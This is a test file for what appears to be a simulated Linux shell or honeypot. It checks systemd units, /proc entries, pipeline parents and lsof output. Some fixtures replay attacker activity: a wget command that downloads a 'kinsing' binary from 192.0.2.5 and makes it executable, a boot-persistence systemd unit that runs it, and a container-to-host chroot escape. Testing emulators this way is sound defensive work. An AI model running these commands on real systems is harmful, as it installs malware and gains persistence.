import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createSink } from '../../../run-line.ts';
import { run } from '../../run.ts';
import type { World } from '../../world.ts';
import { container, host } from '../testing/run.ts';

async function shell(world: World, line: string, cwd = '/root') {
  const [stdout, stderr] = [createSink(), createSink()];
  const argv = ['/bin/sh', '-c', line];
  const signal = AbortSignal.timeout(10_000);
  const { exitCode } = await run(world, { argv, cwd, stdout, stderr, pace: 'skip', signal });
  return { exitCode, stdout: stdout.content().toString(), stderr: stderr.content().toString() };
}

const unit = `cat > /lib/systemd/system/bot.service <<EOF
[Unit]
Description=Start daemon at boot time
[Service]
ExecStart=/etc/kinsing --quiet
Restart=always
EOF
`;

describe('units that visitors write', () => {
  it('are described and enabled as they say, and nobody hears of a program that is missing', async () => {
    const { stdout, stderr } = await shell(
      host(),
      `${unit}systemctl daemon-reload; systemctl enable bot 2>/dev/null; systemctl start bot; systemctl status bot`,
    );
    assert.match(
      stdout,
      /^○ bot\.service - Start daemon at boot time\n {5}Loaded: loaded \(\/lib\/systemd\/system\/bot\.service; enabled; /,
    );
    assert.equal(stderr, '');
  });

  it('run while their program does, and end with it', async () => {
    const { stdout } = await shell(
      host(),
      `wget -q -O /etc/kinsing http://192.0.2.5/kinsing; chmod +x /etc/kinsing
${unit}systemctl start bot; sleep 3; systemctl is-active bot; systemctl status bot | grep -c 'Main PID'; systemctl stop bot; systemctl is-active bot`,
    );
    assert.equal(stdout, 'active\n1\ninactive\n');
  });

  it("are the host's where a container went there", async () => {
    const inside = container('debian');
    const there = await shell(inside, 'systemctl restart ssh');
    assert.match(there.stderr, /systemctl: not found/);
    inside.files.mounts.set('/mnt', { tree: inside.host!.files, path: '/', readOnly: false });
    const { stdout, stderr } = await shell(
      inside,
      "chroot /mnt sh -c 'systemctl restart ssh && systemctl is-active ssh'",
    );
    assert.deepEqual([stdout, stderr], ['active\n', '']);
  });
});

describe('a process', () => {
  it('finds itself in /proc', async () => {
    const { stdout } = await shell(
      host(),
      'export MARK=1; readlink /proc/self/exe; cat /proc/self/comm; cat /proc/self/environ | tr "\\0" "\\n" | grep MARK; readlink /proc/self/cwd; pwdx $$ | cut -d: -f2',
      '/etc',
    );
    assert.equal(stdout, '/usr/bin/readlink\ncat\nMARK=1\n/etc\n /etc\n');
  });
});

describe('a process of a pipeline', () => {
  it('has the shell that began it as its parent', async () => {
    const { stdout } = await shell(host(), 'echo $$; ps -o ppid= | cat; ps -o ppid= -C ps');
    const [own, ...parents] = stdout.trim().split(/\s+/);
    assert.ok(parents.length >= 2 && parents.every((parent) => parent === own || parent === '1'), stdout);
  });
});

describe('lsof', () => {
  it('tells of one port where one is asked for, and of nothing where nobody listens', async () => {
    const world = host();
    const { stdout } = await shell(
      world,
      'lsof -i :22 | wc -l; lsof -ti:22; pgrep -o sshd; lsof -i TCP:22 -t',
    );
    const [count, ...ids] = stdout.trim().split('\n');
    assert.equal(count, '3');
    assert.equal(new Set(ids).size, 1);
    assert.deepEqual(await shell(world, 'lsof -i :3333'), { exitCode: 1, stdout: '', stderr: '' });
  });
});
